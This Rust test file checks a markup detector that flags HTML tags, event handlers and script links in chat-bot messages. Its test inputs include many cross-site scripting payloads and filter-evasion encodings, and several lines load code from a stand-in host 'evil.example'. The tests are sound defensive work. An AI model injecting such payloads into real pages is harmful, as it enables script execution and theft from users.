//! What is markup, and what only looks like it.

use naughty_strings::BLNS;
use proptest::prelude::*;
use webmessaging_bots::{Markup, find_markup};

#[track_caller]
fn passes(text: &str) {
    assert_eq!(find_markup(text), None, "{text}");
}

#[track_caller]
fn finds(text: &str, expected: Markup, at: u64) {
    assert_eq!(find_markup(text), Some((expected, at)), "{text}");
}

#[test]
fn ordinary_text_passes() {
    for text in [
        "",
        "a < b and b > c",
        "I <3 you",
        "5 <= 6, x << 2, a <- b, <>, < script >",
        "x => y, x -> y, a && b, R&D, Q&A, AT&T",
        "`let x = a < b;` and `if (i < n && j > 0) { i += 1 }`",
        "100 % sure, 5%, 20%25",
        "JavaScript: the good parts",
        "data: see below. Note: it's \"quoted\" = fine",
        "He said \"one = two\" and left",
        "it's on = off, don't turn it off='now'",
        "don't use onclick; set x = 1 instead. It's \"online=true\"",
        "a<b, i<n; i++ and if x<y then",
        "`Vec<String>`, `HashMap<K, V>`, `a<b`",
        "write `<b>` for bold and `</p>` at the end, `<br/>` in between",
        "mail <jane@example.com> or see <https://example.com>",
        "x<y and z<b and w>0, x<y, i<n-1 and w>0; if x<y, y<i and z>0",
        "<mailto:help@shop.example?subject=Order> <https://shop.example/#/orders/id=7>",
        "see [1]: > JavaScript:Expert",
        "> quoted\n> a < b\n> I <3 you",
        "see <https://shop.example/?order=7> or <https://shop.example/page?a=1&b=2#c=d>",
        "std::vector<std::string> v",
        "Ali's onion=2, leek=3; Bob's onboard=yes",
        "Allowed data: application/pdf, Missing data: application/letter of reference",
        "JavaScript:2 Jahre, JavaScript:\u{6743}\u{5a01}, Big-data:text/html",
        "https://shop.example/?a=1&ltv=30&lte=5",
        "https://shop.example/?a=1&ltb&ltable=3&lt=2",
        "&lt3, &ltd; and &lt b",
        "https://shop.example/?a=1&b=2#c",
        "Zażółć gęślą jaźń, 日本語, עברית, العربية, हिन्दी",
        "👩‍👩‍👧‍👦 🇩🇪 🎉",
        "ends with <",
        "ends with &",
        "&amp; &copy; &#65; &lt; 3",
    ] {
        passes(text);
    }
}

#[test]
fn markup_is_found_with_its_place() {
    finds("<b>", Markup::Tag, 1);
    finds("ä <br", Markup::Tag, 3);
    finds("<sc<script>ript>", Markup::Tag, 1);
    finds("a < b <script>", Markup::Tag, 7);
    finds("x </b>", Markup::Tag, 3);
    finds("x </>", Markup::Tag, 3);
    finds("<img src=x onerror=alert(1)", Markup::Tag, 1);
    finds("<!-- x", Markup::Comment, 1);
    finds("<?php", Markup::Comment, 1);
    finds("<!doctype html>", Markup::Doctype, 1);
    finds("a\" onmouseover=\"alert(1)", Markup::EventHandler, 2);
    finds("a' onclick='alert(1)", Markup::EventHandler, 2);
    finds("see javascript:alert(1)", Markup::ScriptLink, 5);
    finds("JaVaScRiPt:alert(1)", Markup::ScriptLink, 1);
    finds("data:text/html,x", Markup::ScriptLink, 1);
    finds("<x onclick=alert(1)>", Markup::Tag, 1);
    finds("<my-widget>", Markup::Tag, 1);
    finds("see <svg:script>", Markup::Tag, 5);
    finds("a\" oncancel=\"alert(1)", Markup::EventHandler, 2);
    finds("java\tscript:alert(1)", Markup::ScriptLink, 1);
    finds("x javascript: alert(1)", Markup::ScriptLink, 3);
    finds("jav&#x09;ascript:alert(1)", Markup::ScriptLink, 1);
    finds("data: text/html;base64,x", Markup::ScriptLink, 1);
    finds("data:text/html;x\u{20ac};base64,x", Markup::ScriptLink, 1);
    // Backticks do not hide what does something.
    finds("`<script>`", Markup::Tag, 2);
    finds("`<b>` <b>", Markup::Tag, 7);
    finds("`<b onclick=alert(1)>`", Markup::Tag, 2);
    finds("`<b<b>`", Markup::Tag, 2);
    // The sign within the value is not where it begins.
    for cut_off in [
        "<img title=\"<b",
        "<script <a",
        "<script/<a",
        "<img src=x onerror=alert(1) x=\"<b",
        "<x a=\"<b",
        "<x onclick='alert(1)<b",
        "a <y x=1 z=\"<b",
    ] {
        assert!(find_markup(cut_off).is_some(), "{cut_off}");
    }
    // Hidden.
    finds("&lt;script&gt;", Markup::Tag, 1);
    finds("&amp;lt;b&amp;gt;", Markup::Tag, 1);
    finds("%3Cscript%3E", Markup::Tag, 1);
    finds("%253Cb%253E", Markup::Tag, 1);
    finds("javascript&colon;alert(1)", Markup::ScriptLink, 1);
    finds("a &ltscript&gtalert(1)", Markup::Tag, 3);
    finds("&LT/title>", Markup::Tag, 1);
    finds("x &ltb&gt", Markup::Tag, 3);
    finds("&lta onclick=alert(1)>", Markup::Tag, 1);
    finds("&lti &amp;ltscript", Markup::Tag, 4);
}

/// Browsers read `&lt` without its semicolon, whatever comes behind it.
#[test]
fn signs_without_a_semicolon_are_signs() {
    for tag in [
        "&ltx onfocus=alert(1) autofocus tabindex=1>",
        "&ltmy-el onclick=alert(1)>x",
        "&ltv=30 onclick=alert(1)>x",
        "&lta/onclick=alert(1)>",
        "&lta\tonclick=alert(1)>",
        "&lta\nonclick=alert(1)>",
        "&lta x& onclick=alert(1)>",
        "&ampltscript>",
        "&amp&LTscript&GT",
        "&ltsc&ltscript>ript>",
        "&lt;x onclick&#61;alert(1)>",
    ] {
        assert_eq!(find_markup(tag).map(|(markup, _)| markup), Some(Markup::Tag), "{tag}");
    }
    finds("&quot onmouseover=alert(1) x=", Markup::EventHandler, 1);
    for text in [
        "https://shop.example/?a=1&ltv=30 and https://shop.example/?b=2",
        "https://shop.example/?x=1&amplitude=3&gt=5&quote=7",
        "if x &ltb then",
    ] {
        passes(text);
    }
}

#[test]
fn links_that_run_something_are_found_however_they_are_written() {
    for link in [
        "javascript:alert(1)",
        "javascript:alert (1)",
        "javascript:void eval (name)",
        "javascript:alert%20%281%29",
        "javascript:name",
        "javascript:name//",
        "javascript:name//x",
        "javascript:name/**/",
        "javascript:\u{feff}name",
        "javascript:name\u{feff}",
        "> [x]\n>\n> [x]:\n> javascript:x",
        "jav&#x0A;ascript:name//",
        "data:application/xhtml+xml,x",
        "data: text/html,x",
        "data: application/rss+xml;base64,PHg+",
        "data:\napplication/rss+xml,x",
        "data:image/x+xml;base64,x",
        "javascript:0 ;eval (name)",
        "javascript:0 ,import (\"//evil.example/x.js\")",
        "javascript: alert (1)",
        "javascript:location.hash",
        "javascript:''+name",
        "javascript:1,name",
        "javascript:/**/name",
        "javascript&#58;alert&#32;&#40;1&#41;",
        "vbscript:msgbox(1)",
        "[x](javascript:name)",
        "[x](javascript\\:alert(1))",
        "[x]: javascript:x",
    ] {
        assert_eq!(find_markup(link).map(|(markup, _)| markup), Some(Markup::ScriptLink), "{link}");
    }
    assert!(find_markup("[x]( <javascript: name>)").is_some());
    finds("a\\* [x](javascript\\:alert(1))", Markup::ScriptLink, 9);
    for text in [
        "JavaScript:the good parts",
        "Skills: JavaScript:Expert, Python:Basic",
        "JavaScript:\nExpert\nPython:\nBasic",
        "JavaScript: the good parts (2008)",
        "JavaScript:Front/Backend",
        "JavaScript:100%",
        "[1]: JavaScript: The Good Parts",
        "JavaScript:(",
        "JavaScript:",
    ] {
        passes(text);
    }
}

/// What stands before it and passes, however it does.
#[test]
fn nothing_hides_behind_what_passes() {
    for before in [
        "",
        "a<b ",
        "`a<b` ",
        "Vec<String> ",
        "<x ",
        "<jane@example.com ",
        "i<n-1 ",
        "<https://a.example/?x=1> ",
    ] {
        for hidden in [
            "[x](javascript&colon;alert(1))",
            "&gt;&lt;img src&#61;x onerror&#61;alert(1)&gt;",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&quot; onclick&#61;alert(1) x&#61;&quot;",
            "&copy; %3Cscript%3Ealert(1)%3C/script%3E",
            "<x onclick&#61;alert(1)>hi",
            "<b>",
        ] {
            let text = format!("{before}{hidden}");
            assert!(find_markup(&text).is_some(), "{text}");
        }
    }
}

/// Of entities and percent signs a page takes off one kind, not all of them at once.
#[test]
fn nothing_hides_behind_a_sign_that_only_ends_a_tag_here() {
    for text in [
        "&lt;x%3E tabindex=1 autofocus onfocus=alert(1)&gt;",
        "&lt;x&amp;gt; tabindex=1 autofocus onfocus=alert(1)&gt;",
        "%3Cx&gt; tabindex=1 autofocus onfocus=alert(1)%3E",
        "a&quot; x%3E onclick=alert(1) y=&quot;",
        "a&quot; x&amp;gt; onclick=alert(1) y=&quot;",
        "&quot; x=%22 onclick=alert(1) y=&quot;",
        "%22 &quot;onclick=alert(1) x=",
        "&ltx&amp;gt; onclick=alert(1)>",
    ] {
        assert!(find_markup(text).is_some(), "{text}");
    }
}

/// What Markdown takes for text, and what it takes no notice of.
#[test]
fn tags_are_found_however_markdown_reads_the_text() {
    for text in [
        "> <x\n> tabindex=1 autofocus onfocus=alert(1)>hi",
        "> <jane\n> onclick=alert(1)>",
        "a\n  > <x\n \t> > style=position:fixed>",
        "</x <iframe>",
        "</x\n<style>@import'//evil.example';",
        "</x <script>alert(1)",
        "</x <b>",
        "<x a<script>",
        "<https://a.example/?x=\"<script>alert(1)</script>\">",
        "<https://a.example/?x='<iframe src=//evil.example>'>",
        "<https://a.example/?x='<!--'>",
        "<https://a.example/?x=<svg/onload=alert(1)>",
    ] {
        assert!(find_markup(text).is_some(), "{text}");
    }
}

#[test]
fn a_link_between_signs_brings_no_handler_with_it() {
    for link in [
        "<https:/onclick=alert(1)>",
        "<https://a.example/style=x>",
        "<https://a.example/?a=1 onclick=alert(1)>",
        "<https://a.example/?a=''onclick=alert(1)>",
        "<https://a.example/?a=1",
    ] {
        assert!(find_markup(link).is_some(), "{link}");
    }
}

/// `a<b` compares two numbers, until a browser would make an element of it.
#[test]
fn what_can_be_a_variable_has_to_end_as_a_tag() {
    for text in ["if a<b then c", "i<p and j", "for i<n-1 the loop", "`for i<n-1`", "x<y-z", "if x</y then"] {
        passes(text);
    }
    finds("if a<b then c>d", Markup::Tag, 5);
    finds("see <a href=https://evil.example", Markup::Tag, 5);
    finds("x <i/>", Markup::Tag, 3);
    finds("<n-1 onclick=alert(1)", Markup::Tag, 1);
    finds("a<b <script", Markup::Tag, 5);
}

#[test]
fn backticks_are_paired_as_markdown_does() {
    for text in ["it`s\nwrite `<b>` for bold", "``<b>`` and ``` <i> ```", "`` ` <b> ``", "`<div>` and `<li>`"]
    {
        passes(text);
    }
    for tag in [
        "``<b>`",
        "`<b>``",
        "`x` <b> `x`",
        "`</div>`",
        "`</span>`",
        "`<table>`",
        "<scr`<b>`ipt>",
        "<im`<b>`g src onerror>",
    ] {
        assert!(find_markup(tag).is_some(), "{tag}");
    }
}

/// Every entry of the Big List of Naughty Strings that brings a tag, a handler or a script link.
#[test]
fn the_naughty_strings_that_are_scripts_are_refused() {
    // What is harmless unless it stands within a script, where no text of ours ever does, and what is no bracket.
    const TEXT: [&str; 6] = [
        "';alert(123);t='",
        "\";alert(123);t=\"",
        ";alert(123);",
        "\\\";alert('XSS');//",
        "< / script >< script >alert(123)< / script >",
        "\u{ff1c}script\u{ff1e}alert(123)\u{ff1c}/script\u{ff1e}",
    ];
    let is_script = |text: &&&str| {
        let lower = text.to_lowercase();
        lower.contains("alert(")
            || lower.contains("<script")
            || lower.contains("onerror")
            || lower.contains("<img")
    };
    let scripts: Vec<_> = BLNS.iter().filter(is_script).collect();
    assert!(scripts.len() > 100, "{}", scripts.len());
    let missed: Vec<_> = scripts.into_iter().filter(|text| find_markup(text).is_none()).collect();
    let odd: Vec<_> = missed.iter().filter(|text| !TEXT.contains(text)).collect();
    assert!(odd.is_empty(), "{odd:#?}");
}

/// Of the same list, what has neither a bracket nor a sign that hides one.
#[test]
fn the_naughty_strings_that_are_text_pass() {
    let texts = BLNS.iter().filter(|text| !text.contains(['<', '&', '%', '=', ':']));
    let mut count = 0;
    for text in texts {
        passes(text);
        count += 1;
    }
    assert!(count > 200, "{count}");
}

/// It would take minutes if what is behind each of them, or before it, were looked through again.
#[test]
fn a_text_of_nothing_but_signs_is_looked_through_once() {
    for part in ["javascript: ", "javascript:a ", "`a` ", "`", "` `` ", "&", "&amp", "\\:", "a<b "] {
        passes(&part.repeat(100_000));
    }
    for part in ["<", "<b>", "`<b>", "<b>`"] {
        let _ = find_markup(&format!("`{}`", part.repeat(100_000)));
    }
}

proptest! {
    #[test]
    fn text_without_signs_passes(text in "[^<&%:=]*") {
        prop_assert_eq!(find_markup(&text), None);
    }

    #[test]
    fn a_tag_is_found_wherever_it_is(before in "[^<&%:=\"']{0,40}", name in "(b|IMG|script|svg|Div|a)", after in "[^=<>]{0,40}") {
        let text = format!("{before}<{name} {after}>");
        let found = find_markup(&text);
        prop_assert_eq!(found, Some((Markup::Tag, before.chars().count() as u64 + 1)));
    }

    #[test]
    fn nothing_makes_it_panic(text in "(<|>|/|!|-|&|;|lt|amp|%|3c|\"|'|=|on|click|:|javascript|é|\u{0}| ){0,60}") {
        let _ = find_markup(&text);
    }
}
